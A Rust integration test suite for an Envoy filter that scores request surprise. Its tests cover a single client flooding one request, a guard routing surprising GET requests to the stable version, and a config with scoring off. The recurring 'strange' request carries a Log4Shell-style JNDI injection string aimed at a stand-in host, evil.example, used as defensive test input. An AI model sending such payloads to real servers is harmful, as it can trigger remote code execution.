//! Surprise in a real Envoy: what is strange is said to be, one client cannot make it usual, and a
//! guard has it answered by stable.
//!
//! Clients are told apart by `x-forwarded-for`, which Envoy takes for their address. One worker, so
//! that all of them teach the same model.

use super::common::{config, filter, with};
use anyhow::{Context as _, Result, ensure};
use bytes::Bytes;
use hyper::{Method, Response, StatusCode};
use scorer_sdk::telemetry;
use serde_json::{Value, json};
use serin_integration::shop::{Shops, VERSION_HEADER};
use serin_integration::topology::{AccessLog, SidecarProcess, Topology};
use serin_integration::{LONGEST, http, turn, wait_until};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep};

const CLIENTS: u32 = 24;
/// The client that asks for what is strange.
const STRANGER: &str = "10.9.9.9";
/// It is answered 200 like any other: only its query tells.
const STRANGE: &str = "/api/products/7?id=${jndi:ldap://evil.example/a}";

async fn ask(
    address: SocketAddr,
    method: Method,
    path: &str,
    client: &str,
    more: &[(&str, &str)],
) -> Result<Response<Bytes>> {
    let mut headers = vec![
        ("host", "shop.example"),
        ("user-agent", "crowd/1"),
        ("x-forwarded-for", client),
    ];
    headers.extend_from_slice(more);
    http::request(address, method, path, &headers, Bytes::new()).await
}

fn header<'a>(answer: &'a Response<Bytes>, name: &str) -> Option<&'a str> {
    answer.headers().get(name)?.to_str().ok()
}

/// The percentile in `x-serin-score`, in percent.
fn percentile(answer: &Response<Bytes>) -> Result<f64> {
    let score = header(answer, telemetry::SCORE_HEADER.name).context("no x-serin-score")?;
    let (_, percentile) = score.split_once(";percentile=").context("no percentile")?;
    Ok(percentile.parse()?)
}

/// How strange the strange request is found.
async fn probe(topology: &Topology) -> Result<f64> {
    percentile(&ask(topology.address(), Method::GET, STRANGE, STRANGER, &[]).await?)
}

/// Many clients who do the usual things, until dropped.
struct Crowd {
    percentiles: Arc<Mutex<Vec<f64>>>,
    /// Whether they also ask for what is strange.
    strangely: Arc<AtomicBool>,
    _tasks: JoinSet<()>,
}

impl Crowd {
    fn start(address: SocketAddr) -> Self {
        let percentiles = Arc::new(Mutex::new(Vec::new()));
        let strangely = Arc::new(AtomicBool::new(false));
        let mut tasks = JoinSet::new();
        for client in 0..CLIENTS {
            let (percentiles, strangely) = (Arc::clone(&percentiles), Arc::clone(&strangely));
            tasks.spawn(async move {
                let name = format!("10.1.0.{client}");
                for number in client.. {
                    let path = match number % 4 {
                        0 => "/".to_owned(),
                        1 => "/api/products".to_owned(),
                        _ => format!("/api/products/{}", number % 90 + 1),
                    };
                    let strange = number % 4 == 3 && strangely.load(Ordering::Relaxed);
                    let path = if strange { STRANGE } else { &path };
                    // A failed request is the shop's or the machine's matter.
                    if let Ok(answer) = ask(address, Method::GET, path, &name, &[]).await
                        && let Ok(percentile) = percentile(&answer)
                        && !strange
                    {
                        percentiles.lock().unwrap().push(percentile);
                    }
                    sleep(Duration::from_millis(100)).await;
                }
            });
        }
        Self {
            percentiles,
            strangely,
            _tasks: tasks,
        }
    }

    /// Waits until `count` further ordinary requests were answered, and gives their percentiles.
    async fn next(&self, count: usize) -> Result<Vec<f64>> {
        let percentiles = || self.percentiles.lock().unwrap();
        percentiles().clear();
        wait_until("answers to many clients", async || {
            Ok(percentiles().len() >= count)
        })
        .await?;
        Ok(percentiles().clone())
    }
}

/// Asks again and again until `enough`.
async fn wait_for_probe(topology: &Topology, enough: impl Fn(f64) -> bool) -> Result<f64> {
    let mut found = f64::NAN;
    wait_until("percentile", async || {
        // Seldom, so that the stranger stays one.
        sleep(Duration::from_millis(150)).await;
        found = probe(topology).await?;
        Ok(enough(found))
    })
    .await
    .with_context(|| format!("percentile {found}; log:\n{}", topology.front.log_tail()))?;
    Ok(found)
}

fn surprising(mode: &str) -> Value {
    with(config(mode), json!({"surprise": {"epoch": "1s"}}))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_one_client_floods_with_stays_strange_until_several_ask_for_it() -> Result<()> {
    let _turn = turn::alone().await;
    let shops = Shops::start(61).await?;
    let topology = Topology::builder("surprise", &shops)
        .concurrency(1)
        .filter(filter(&surprising("annotate")))
        .access_log(AccessLog {
            path: "strange.log".into(),
            format: json!("%FILTER_STATE(wasm.serin.surprise:PLAIN)% %REQ(x-forwarded-for)%\n"),
        })
        .start()
        .await?;
    let crowd = Crowd::start(topology.address());
    wait_for_probe(&topology, |percentile| percentile > 99.8).await?;
    let mut ordinary = crowd.next(400).await?;
    ordinary.sort_by(f64::total_cmp);
    let above = ordinary.iter().filter(|found| **found > 99.8).count();
    let median = ordinary.get(ordinary.len() / 2).copied().unwrap_or(100.0);
    assert!(
        median < 90.0 && above * 20 < ordinary.len(),
        "{median}, {above}"
    );

    // Over at least eight epochs, and many more of it than of anything else.
    let flood = Instant::now();
    let mut sent = 0;
    while flood.elapsed() < Duration::from_secs(8) || sent < 400 {
        ensure!(flood.elapsed() < LONGEST, "only {sent} were sent");
        let mut requests = JoinSet::new();
        for _ in 0..8 {
            let address = topology.address();
            requests.spawn(async move { ask(address, Method::GET, STRANGE, STRANGER, &[]).await });
        }
        sent += requests.join_all().await.iter().flatten().count();
        // The others also have to get through where the machine is slow.
        sleep(Duration::from_millis(10)).await;
    }
    let after = probe(&topology).await?;
    assert!(after > 99.5, "{sent} of one client made it usual: {after}");

    crowd.strangely.store(true, Ordering::Relaxed);
    let usual = wait_for_probe(&topology, |percentile| percentile < 95.0).await?;
    println!("median {median}; after {sent} of one client {after}; of several {usual}");

    // Envoy merges histograms every five seconds.
    let labels = [("destination", "shop"), ("version", "v1")];
    topology
        .front
        .wait_for_metrics("histogram", |metrics| {
            metrics.value("serin_surprise_count", &labels) > Some(400.0)
        })
        .await?;
    drop(crowd);
    let log = topology.front.dir().join("strange.log");
    topology.front.stop().await?;
    let text = std::fs::read_to_string(&log)?;
    let of_stranger: Vec<&str> = text
        .lines()
        .filter(|line| line.ends_with(STRANGER) && line.contains(";percentile=99."))
        .collect();
    assert!(of_stranger.len() > 100, "{}", of_stranger.len());
    for line in of_stranger {
        assert!(line.contains("the query"), "{line}");
    }
    assert!(!text.contains("jndi"), "a value was left in the log");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_guard_finds_too_strange_is_answered_by_stable_for_safe_methods_only() -> Result<()>
{
    let _turn = turn::alone().await;
    let shops = Shops::start(63).await?;
    let guard = json!({
        "mode": "reject",
        "candidate": "v2",
        "surprise": {"epoch": "1s", "refuse_above": 0.99},
        "reject": {"share": 1.0, "reference": {"serin_snapshot": 1, "destination": "shop",
            "version": "v1", "exchanges": 5000, "routes": [{"method": "GET", "path": "/",
            "exchanges": 5000, "signals": {"outcome": [[200, 4985], [500, 15]]}}]}},
    });
    let topology = Topology::builder("surprise-guard", &shops)
        .weights(50, 50)
        .concurrency(1)
        .filter(filter(&config("observe")))
        .sidecar(SidecarProcess::Own, vec![filter(&guard)])
        .start()
        .await?;
    let _crowd = Crowd::start(topology.address());
    let sidecar = topology.sidecar_address().context("no sidecar")?;
    let first = [("x-envoy-attempt-count", "1")];
    // Half of what the front sends goes to the guard first, and stable answers that half as well. The first
    // ones are at the border: little past is no ground for a high percentile.
    let mut by_stable = 0;
    wait_until("20 in a row by stable", async || {
        let answer = ask(topology.address(), Method::GET, STRANGE, STRANGER, &[]).await?;
        match header(&answer, VERSION_HEADER) {
            Some("v1") => by_stable += 1,
            _ => by_stable = 0,
        }
        Ok(by_stable >= 20)
    })
    .await?;
    let refused = ask(sidecar, Method::GET, STRANGE, STRANGER, &first).await?;
    assert_eq!(refused.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(
        header(&refused, telemetry::REJECT_HEADER.name),
        Some("GET /api/products/{int};surprise")
    );
    // What is not safe to ask again, and what nobody will ask again, passes.
    let unsafe_method = ask(sidecar, Method::POST, STRANGE, STRANGER, &first).await?;
    let last = ask(sidecar, Method::GET, STRANGE, STRANGER, &[]).await?;
    for answer in [unsafe_method, last] {
        assert_eq!(header(&answer, telemetry::REJECT_HEADER.name), None);
        assert_eq!(header(&answer, VERSION_HEADER), Some("v2"));
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_surprise_in_the_config_answers_carry_no_score() -> Result<()> {
    let _turn = turn::beside_another().await;
    let shops = Shops::start(65).await?;
    let topology = Topology::builder("surprise-off", &shops)
        .concurrency(1)
        .filter(filter(&config("annotate")))
        .start()
        .await?;
    let answer = ask(topology.address(), Method::GET, "/", STRANGER, &[]).await?;
    assert!(header(&answer, telemetry::VERDICT_HEADER.name).is_some());
    assert_eq!(header(&answer, telemetry::SCORE_HEADER.name), None);
    Ok(())
}
